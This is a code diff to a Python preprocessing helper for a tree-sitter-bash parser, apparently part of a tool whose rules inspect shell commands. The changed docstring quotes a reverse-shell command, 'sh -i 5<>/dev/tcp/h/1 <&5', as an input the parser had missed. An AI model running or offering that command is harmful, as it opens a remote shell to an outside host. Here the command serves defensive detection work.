@@ -184,8 +184,11 @@ def _parsable(text: str) -> bytes:
     tree-sitter-bash 0.25.1's scanner crashes the process (SIGSEGV) on some characters above
     U+FFFF after ``{`` (found by fuzzing: ``"{" + chr(0x10FFFD)``); no shell word the rules read
     needs them.
+
+    ``N<>FILE`` (FILE opened to read and write) is given as ``N<FILE``: the grammar reads
+    ``<>`` as ``<`` and a word ``>``, which left ``sh -i 5<>/dev/tcp/h/1 <&5`` unread.
     """
-    return _ASTRAL.sub("\ufffd", text).encode("utf-8", "replace")
+    return _ASTRAL.sub("\ufffd", text).replace("<>", "<").encode("utf-8", "replace")
 
 
 def _text_word(word: str) -> str:
